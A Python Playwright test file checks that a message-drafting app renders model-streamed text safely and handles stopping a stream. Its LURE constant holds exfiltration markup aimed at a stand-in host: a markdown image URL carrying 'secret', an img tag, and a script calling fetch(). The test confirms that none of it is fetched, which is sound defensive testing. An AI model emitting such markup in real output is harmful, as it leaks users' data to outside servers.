"""Drafting with a model in a real browser: it streams, stops, and nothing that a model writes is fetched."""

import json
import re
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import expect

from coach.access import Chosen
from tests.model_servers import Connection, ScriptedServer, chunk, streams
from tests.test_browser import PATIENCE_MS, Server, choose, message, open_page, picture, settled, write
from tests.test_browser import chromium as chromium
from tests.test_browser import server as server

LURE = (
    "Bo, thank you ![seal](http://198.51.100.7/s.png?q=secret) <img src=http://198.51.100.7/i.png> "
    "[look](http://198.51.100.7/l) <script>fetch('http://198.51.100.7/f')</script> http://198.51.100.7/u for the help."
)


def halts(to: Connection, _: dict[str, Any]) -> None:
    """Says a little, then nothing more until the other side hangs up."""
    to.head()
    to.send(chunk("Bo, thank you for "))
    to.gone(60)


@pytest.fixture
def with_model(server: Server, scripted: Callable[..., ScriptedServer]) -> Iterator[Callable[..., ScriptedServer]]:
    """Sets a scripted model up in the home of the running app."""

    def set_up(*scripts: Any) -> ScriptedServer:
        model = scripted(*scripts)
        server.home.mkdir(exist_ok=True)
        (server.home / "model.json").write_text(Chosen(url=model.url, model="scripted").model_dump_json())
        return model

    yield set_up


def test_what_a_model_writes_calls_nobody(chromium, server, with_model) -> None:  # type: ignore[no-untyped-def]
    model = with_model(streams(LURE))
    page, watch = open_page(chromium, server, 1280)
    choose(page, "Bo")
    write(page, "Bo helped on Monday, so we opened on time.")
    expect(page.get_by_text("Drafted by scripted")).to_be_visible(timeout=PATIENCE_MS)
    picture(page, "model-drafted-1280")
    assert message(page) == "Bo, thank you look for the help."
    page.get_by_text("See what will be sent").click()
    expect(page.get_by_test_id("stCode").first).to_be_visible(timeout=PATIENCE_MS)
    settled(page)
    picture(page, "model-sent-1280")
    page.wait_for_timeout(1_000)
    assert watch.elsewhere == [] and watch.errors == []
    assert "198.51.100.7" not in json.dumps(model.requests)


def test_stop_keeps_what_came_and_hands_over_to_coach(chromium, server, with_model) -> None:  # type: ignore[no-untyped-def]
    model = with_model(halts)
    page, watch = open_page(chromium, server, 390, "dark")
    choose(page, "Bo")
    page.get_by_label("What happened").fill("Bo helped on Monday, so we opened on time.")
    page.get_by_label("What happened").press("Control+Enter")
    expect(page.get_by_text("Bo, thank you for")).to_be_visible(timeout=PATIENCE_MS)
    picture(page, "model-writing-390-dark")
    page.get_by_role("button", name="Stop", exact=True).click()
    expect(page.get_by_text("You stopped it")).to_be_visible(timeout=PATIENCE_MS)
    expect(page.get_by_label("Your message")).to_have_value(re.compile("you helped on Monday"), timeout=PATIENCE_MS)
    assert model.server.hung_up.wait(20), "the model need not go on"
    page.get_by_text("What had arrived").click()
    expect(page.get_by_text("Bo, thank you for")).to_be_visible(timeout=PATIENCE_MS)
    settled(page)
    picture(page, "model-stopped-390-dark")
    page.reload()
    expect(page.get_by_text("You stopped it")).to_be_visible(timeout=PATIENCE_MS)
    expect(page.get_by_label("What happened")).to_have_value(re.compile("Bo helped"), timeout=PATIENCE_MS)
    assert watch.elsewhere == []


def test_the_settings_page_finds_its_way(chromium, server, with_model) -> None:  # type: ignore[no-untyped-def]
    with_model(streams("yes"))
    page, watch = open_page(chromium, server, 390)
    page.goto(f"{server.url}/settings")
    expect(page.get_by_role("heading", name="Settings", exact=True)).to_be_visible(timeout=PATIENCE_MS)
    page.get_by_role("button", name="Test connection").click()
    expect(page.get_by_text("answers.")).to_be_visible(timeout=PATIENCE_MS)
    settled(page)
    picture(page, "settings-390")
    assert watch.elsewhere == [] and watch.errors == []
